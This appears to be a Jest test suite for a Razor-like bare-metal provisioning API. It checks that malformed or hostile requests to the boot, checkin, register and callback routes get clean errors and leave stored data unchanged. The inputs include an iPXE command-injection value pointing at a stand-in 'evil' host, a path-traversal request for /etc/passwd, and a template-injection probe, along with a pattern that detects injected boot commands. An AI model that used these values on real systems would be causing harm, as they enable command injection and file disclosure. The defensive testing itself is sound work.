/**
 * Malformed requests to the node-facing routes — boot, checkin, register, callbacks — get a clear
 * 4xx (an error envelope naming the problem) or, for boot, a valid iPXE error script; never a 500.
 * Each bad request gets its exact status and error kind, and leaves the store's bytes as they were.
 */
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import request from 'supertest';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ERRORS, type ErrorKind } from '../../lib/errors.js';
import { SEED, tempHome, writeSeed } from '../helpers/fixture.js';
import { testDeps } from '../helpers/deps.js';
import { testApp } from '../helpers/app.js';

let home: ReturnType<typeof tempHome>;
let app: ReturnType<typeof testApp>;
beforeAll(async () => {
  home = tempHome();
  await writeSeed(home.home);
  app = testApp(await testDeps(home.home));
});
afterAll(() => home.cleanup());

const long = 'A'.repeat(5000);

describe('boot always answers an iPXE script', () => {
  test.each([
    [''],
    ['hw_id='],
    ['hw_id=______'],
    ['hw_id=not-a-mac'],
    ['hw_id=52:54:00:12:34:5'],
    ['hw_id=52:54:00:12:34:56%00'],
    [`hw_id=${long}`],
    ['hw_id=52:54:00:12:34:56&dhcp_mac=zz'],
    ['hw_id=52:54:00:12:34:56&dhcp_mac=01-52-54-00-12-34'],
    ['hw_id=a&hw_id=b'],
    ['mac=%ZZ'],
    ['hw_id=52:54:00:12:34:56&bogus=1'],
    ['json_hash={'],
    ['json_hash=[1,2]'],
    ['hw_id={{7*7}}'],
    ['hw_id=%0Achain%20http://evil/'],
  ])('GET /boot?%s', async (query) => {
    const res = await request(app).get(`/razor/api/boot?${query}`);
    expect({ query, status: res.status }).toEqual({ query, status: 200 });
    expect(res.text.startsWith('#!ipxe\n')).toBe(true);
    expect(res.text).toMatch(/\nsleep \d+\nreboot\n$/);
    // Nothing from the request can add an iPXE command: one echo line per message, no chain/kernel.
    expect(res.text).not.toMatch(/^(chain|kernel|imgexec|shell)/m);
  });
});

/** A bad request: method, URL, body; the exact status and error kind (`text`: a plain-text 404). */
type BadRequest = [string, string, object | string | undefined, number, ErrorKind];
const hostile: BadRequest[] = [
  ['GET', '/razor/api/node/checkin', undefined, 400, 'MissingArgument'],
  ['GET', '/razor/api/node/checkin?hw_id=525400123456', undefined, 400, 'MissingArgument'],
  ['GET', '/razor/api/node/checkin?last_state=idle', undefined, 400, 'MissingArgument'],
  ['GET', '/razor/api/node/checkin?hw_id=zz&last_state=idle', undefined, 400, 'InputError'],
  ['GET', '/razor/api/node/checkin?hw_id=____&last_state=idle', undefined, 400, 'MissingArgument'],
  [
    'GET',
    '/razor/api/node/checkin?hw_id=525400123456&last_state=idle&first_checkin=maybe',
    undefined,
    400,
    'InputError',
  ],
  ['GET', '/razor/api/node/checkin?hw_id=525400123456&hw_id=x&last_state=idle', undefined, 400, 'InputError'],
  ['GET', '/razor/api/node/checkin?json_hash={', undefined, 400, 'InputError'],
  ['GET', '/razor/api/node/checkin?json_hash=[]', undefined, 400, 'InputError'],
  ['GET', `/razor/api/node/checkin?hw_id=${long}&last_state=idle`, undefined, 400, 'InputError'],
  ['POST', '/razor/api/node/register', { json_hash: '{' }, 400, 'InputError'],
  ['POST', '/razor/api/node/register', { json_hash: 'null' }, 400, 'MissingArgument'],
  [
    'POST',
    '/razor/api/node/register',
    { hw_id: '525400123456', attributes_hash: 'x', last_state: 'idle' },
    400,
    'InputError',
  ],
  [
    'POST',
    '/razor/api/node/register',
    { hw_id: '525400123456', attributes_hash: {}, last_state: 'idle' },
    400,
    'MissingArgument',
  ],
  [
    'POST',
    '/razor/api/node/register',
    { hw_id: '', attributes_hash: { a: 1 }, last_state: 'idle' },
    400,
    'MissingArgument',
  ],
  [
    'POST',
    '/razor/api/node/register',
    { hw_id: 'nope', attributes_hash: { a: 1 }, last_state: 'idle' },
    400,
    'InputError',
  ],
  ['POST', '/razor/api/node/register', '[1,2,3]', 400, 'MissingArgument'],
  ['POST', '/razor/api/node/register', '{"@hw_id": 5}', 400, 'InputError'],
  ['GET', '/razor/api/node/register', undefined, 405, 'MethodNotAllowed'],
  ['GET', '/razor/api/policy/callback', undefined, 400, 'MissingArgument'],
  ['GET', '/razor/api/policy/callback/Zz9Zz9Zz9Zz9Zz9Zz9Zz9Z/preseed/file', undefined, 404, 'NotFound'],
  ['GET', '/razor/api/policy/callback/bad*uuid/preseed/file', undefined, 404, 'NotFound'],
  ['GET', `/razor/api/policy/callback/${SEED.active_model}`, undefined, 400, 'MissingArgument'],
  ['GET', `/razor/api/policy/callback/${SEED.active_model}/nosuchns/file`, undefined, 400, 'NoCallbackFound'],
  [
    'GET',
    `/razor/api/policy/callback/${SEED.active_model}/preseed/nosuchaction`,
    undefined,
    400,
    'NoCallbackFound',
  ],
  [
    'GET',
    `/razor/api/policy/callback/${SEED.active_model}/postinstall/send_ips/not-an-ip`,
    undefined,
    403,
    'Forbidden',
  ],
  [
    'GET',
    `/razor/api/policy/callback/${SEED.active_model}/postinstall/send_ips`,
    undefined,
    403,
    'Forbidden',
  ],
  [
    'GET',
    `/razor/api/policy/callback/${SEED.active_model}/..%2F..%2Fetc/passwd`,
    undefined,
    404,
    'InvalidPathItem',
  ],
  [
    'GET',
    `/razor/api/policy/callback/${SEED.active_model}/preseed/${'x'.repeat(300)}`,
    undefined,
    404,
    'InvalidPathItem',
  ],
  ['GET', `/razor/api/policy/callback/${SEED.active_model}/preseed/%00`, undefined, 404, 'InvalidPathItem'],
  ['POST', `/razor/api/policy/callback/${SEED.active_model}/preseed/file`, {}, 405, 'MethodNotAllowed'],
  ['GET', '/razor/api/policy/callback/Seed/preseed/file', undefined, 404, 'NotFound'],
];

test('a hw_id with many MACs is still one node lookup (the Microkernel for an unknown machine)', async () => {
  const hw = Array.from({ length: 100 }, (_, i) => `52:54:00:00:01:${String(i).padStart(2, '0')}`).join('_');
  const res = await request(app).get(`/razor/api/boot?hw_id=${hw}`);
  expect(res.status).toBe(200);
  expect(res.text).toContain(`/razor/image/mk/${SEED.mk_image}/boot/vmlinuz initrd=initrd.gz maxcpus=1`);
});

describe('checkin, register and callbacks answer bad requests with their error and change nothing', () => {
  test.each(hostile)('%s %s → %i %s', async (method, url, body, status, kind) => {
    const before = readFileSync(join(home.home, 'razor.json'));
    const agent = request(app);
    const req = method === 'GET' ? agent.get(url) : agent.post(url);
    const res =
      typeof body === 'string' ? await req.type('json').send(body) : body ? await req.send(body) : await req;
    expect({ url, status: res.status }).toEqual({ url, status });
    const env = JSON.parse(res.text) as { err_class: string; std_err_code: number; result: string };
    expect({ url, kind: env.err_class }).toEqual({ url, kind: `ProjectRazor::Error::Slice::${kind}` });
    expect(env.std_err_code).toBe(ERRORS[kind].code);
    expect(env.result.length).toBeGreaterThan(10);
    expect(readFileSync(join(home.home, 'razor.json')).equals(before)).toBe(true);
  });
});

test('JSON nested deeper than 32 levels is refused before anything runs', async () => {
  const deep = `{"rule":${'['.repeat(40)}${']'.repeat(40)}}`;
  const res = await request(app)
    .post('/razor/api/tag')
    .type('json')
    .send(`{"name":"x","tag":"y",${deep.slice(1)}`);
  expect(res.status).toBe(400);
  expect(res.body.result).toContain('nests deeper than 32 levels');
});
